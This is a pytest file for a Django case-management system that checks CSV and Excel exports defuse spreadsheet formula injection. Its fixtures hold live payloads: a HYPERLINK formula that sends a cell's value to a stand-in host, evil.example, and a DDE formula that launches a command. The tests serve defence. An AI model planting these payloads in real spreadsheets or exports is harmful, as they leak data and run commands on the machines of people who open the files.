"""SECURITY: no export writes a formula. A text a spreadsheet would run (=, +, -, @, tab, CR at
its start) arrives as text: in a CSV with an apostrophe in front, in an .xlsx as a text cell with
Excel's quote prefix. One test per export the project writes."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from casemgmt.core.spreadsheets import csv_row, is_formula_like

from .factories import dong
from .resource_factories import ProviderFactory, ResourceFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
REASON = {"purpose": "other", "reason": "자원 목록 점검용 출력"}


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_start_is_neutralised_in_a_csv_row(text):
    assert is_formula_like(text)
    assert csv_row([text, "김복순", 3, None]) == ["'" + text, "김복순", 3, None]


@pytest.mark.parametrize("text", ["김복순", "02-450-1234", "1+1", "a=b", "", "'=already"])
def test_ordinary_text_is_written_as_it_is(text):
    assert not is_formula_like(text)
    assert csv_row([text]) == [text]


def _csv_cells(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_the_access_record_csv_holds_a_hostile_login_name_and_reason_as_text(client, sysadmin):
    # No login needed to plant the first one: a failed login records the name typed, and the
    # system administrator's review lists failed logins of unknown accounts.
    client.post(reverse("login"), {"username": HYPERLINK, "password": "wrong-password-1"})
    client.force_login(sysadmin)
    response = client.post(
        reverse("core:access_record_export"), {"purpose": "other", "reason": DDE}
    )
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert not [c for c in cells if is_formula_like(c)]


def _formula_cells(content):
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ], book


def test_the_resource_export_writes_a_hostile_name_and_description_as_text(client, user_other_dong):
    # Registered by 능동 and shared with the whole gu: it reaches 구의제1동's export too.
    ResourceFactory(
        name=HYPERLINK,
        description="=1+1",
        cost="-1",
        eligibility="@SUM(A1)",
        provider=ProviderFactory(name="+82 나눔"),
        registering_dong=dong("능동"),
        shared_gu_wide=True,
    )
    client.force_login(user_other_dong)
    export = client.get(reverse("resources:resource_list"), {"export": "xlsx", **REASON})
    assert export.status_code == 200
    formulas, book = _formula_cells(export.content)
    assert formulas == []
    values = [c.value for row in book.active.iter_rows(min_row=2) for c in row]
    assert {HYPERLINK, "=1+1", "-1", "@SUM(A1)", "+82 나눔"} <= set(values)
    hyperlink = next(
        c for row in book.active.iter_rows(min_row=2) for c in row if c.value == HYPERLINK
    )
    assert hyperlink.quotePrefix  # stays text when an officer edits it in Excel


def test_the_import_template_lists_a_hostile_dong_name_as_text(client, user_in_dong):
    hostile = dong("능동")
    hostile.name = "=1+2"
    hostile.save()
    client.force_login(user_in_dong)
    template = client.get(reverse("resources:registry_import"), {"download": "template"})
    formulas, book = _formula_cells(template.content)
    assert formulas == []
    assert "=1+2" in [
        c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row
    ]
